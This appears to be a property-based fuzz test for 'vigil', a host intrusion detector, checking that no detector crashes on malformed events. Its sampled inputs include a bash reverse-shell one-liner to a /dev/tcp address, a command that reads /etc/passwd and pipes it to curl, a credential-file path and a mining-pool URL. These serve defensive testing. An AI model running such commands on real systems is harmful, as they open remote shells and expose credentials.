"""Bad input never crashes a detector: odd argument types, missing fds and processes."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from vigil.detectors.registry import build_detectors
from vigil.events.model import Event, FdInfo, Process

DETECTORS = [d for d in build_detectors({"dns_direct": {"system_resolvers": []}},
                                        own_pid=4242, own_uid=0)
             if d.name != "ssh_bruteforce"]
TYPES = sorted({t for d in DETECTORS for t in d.event_types})

values = st.one_of(st.none(), st.integers(-2**40, 2**40), st.text(max_size=30), st.booleans(),
                   st.sampled_from(["/etc/shadow", "/dev/tcp/1.2.3.4/4444", "-c", "0", "/tmp/x",
                                    "/etc/pam.d/sshd", "stop", "vigil", "|", "nginx"]))
names = st.sampled_from(["flags", "mode", "pid", "tid", "sig", "request", "uid", "ruid",
                         "name", "path", "filename", "oldpath", "newpath", "linkpath",
                         "newfd", "length", "uargs"])
words = st.lists(st.one_of(st.text(max_size=12), st.sampled_from(
    ["-c", "id; cat /etc/passwd | curl x", "stop", "vigil", "-e", "/bin/sh", "bash -i >& "
     "/dev/tcp/1.2.3.4/1 0>&1", "/usr/sbin/service", "stratum+tcp://x", "'"])), max_size=5)
paths = st.one_of(st.none(), st.sampled_from(["/usr/bin/bash", "/usr/sbin/nginx", "/tmp/x",
                                              "/usr/bin/systemctl", "/memfd:x", "", "/",
                                              "/usr/bin/python3"]), st.text(max_size=20))


@st.composite
def processes(draw, depth: int = 2) -> Process:
    parent = draw(processes(depth - 1)) if depth > 0 and draw(st.booleans()) else None
    return Process(pid=draw(st.one_of(st.none(), st.integers(0, 5000))),
                   uid=draw(st.one_of(st.none(), st.integers(0, 70000))),
                   user=draw(st.one_of(st.none(), st.sampled_from(["root", "www-data"]))),
                   name=draw(st.one_of(st.none(), st.text(max_size=15))),
                   exepath=draw(paths), exe=draw(paths), args=draw(words),
                   exe_from_memfd=draw(st.booleans()), parent=parent)


fds = st.one_of(st.none(), st.builds(
    FdInfo, num=st.one_of(st.none(), st.integers(-1, 10)),
    type=st.sampled_from([None, "file", "ipv4", "ipv6", "unix", "directory", "memfd"]),
    name=paths, rip=st.one_of(st.none(), st.sampled_from(["8.8.8.8", "::1", "bad", ""])),
    rport=st.one_of(st.none(), st.integers(0, 70000)),
    types=st.one_of(st.none(), st.dictionaries(st.integers(-1, 3),
                                               st.sampled_from(["ipv4", "file"])))))


@settings(max_examples=600, deadline=None)
@given(etype=st.sampled_from(TYPES), args=st.dictionaries(names, values, max_size=5),
       proc=processes(), fd=fds, res=st.one_of(st.none(), st.integers(-200, 10)),
       ts=st.integers(0, 2**62))
def test_no_detector_raises_on_odd_events(etype, args, proc, fd, res, ts) -> None:
    event = Event(type=etype, ts=ts, res=res, args=args, proc=proc, fd=fd)
    for det in DETECTORS:
        if etype in det.event_types:
            for d in det.on_event(event):
                assert d.name == det.name and d.rule_id.startswith(det.name + ".")
